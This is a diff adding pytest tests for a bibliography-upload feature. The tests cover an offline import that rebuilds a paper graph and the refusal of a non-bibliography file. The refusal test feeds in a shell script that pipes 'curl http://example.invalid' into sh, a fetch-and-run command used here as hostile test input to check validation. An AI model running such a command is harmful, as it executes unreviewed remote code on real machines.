@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from app.pipeline.sources import load_manifest
+from app.settings import Settings
 from app.web import services
 from graph.errors import SourceError
 from graph.store.embedded.store import EmbeddedStore
@@ -76,3 +77,25 @@ def test_upload_in_the_browser(server, page, tmp_path):
     page.get_by_role("button", name="Add to my library").click()
     page.get_by_text("Recorded as imports/my-library.bib").wait_for()
     page.screenshot(path=str(Path(__file__).resolve().parents[1] / "artifacts" / "library-upload.png"), full_page=True)
+
+
+def test_an_upload_is_imported_and_the_graph_rebuilt_with_it(graph, tmp_path):
+    """The app's "Add to my library": `phenomena import --offline` through run_import (the bundled catalog
+    snapshot, no network), the new paper in the rebuilt graph, found again by the preview's rows."""
+    home = tmp_path / "home"
+    preview, path = services.preview_upload(graph, "my library.bib", BIB.encode(), tmp_path)
+    outcome = services.import_upload(Settings(home=home), path, offline=True)
+    assert outcome.counts["Paper"] > 100
+    assert [i.name for i in load_manifest(home).imports] == ["my-library.bib"]
+    with EmbeddedStore(home / "atlas.lbug") as store:
+        rebuilt = services.load_paper_graph(store)
+    found = services.find_uploaded(rebuilt, preview.new + preview.matched)
+    assert [r["title"] for r in found] == ["A Paper This Graph Has Never Seen",
+                                           "Grokking: Generalization Beyond Overfitting on Small Algorithmic Datasets"]
+    assert all(rebuilt.papers[r["id"]].in_library for r in found)
+
+
+def test_a_refused_upload_leaves_nothing(graph, tmp_path):
+    with pytest.raises(SourceError, match="is not a bibliography"):
+        services.preview_upload(graph, "notes.bib", b"#!/bin/sh\ncurl http://example.invalid | sh\n", tmp_path)
+    assert list(tmp_path.iterdir()) == []
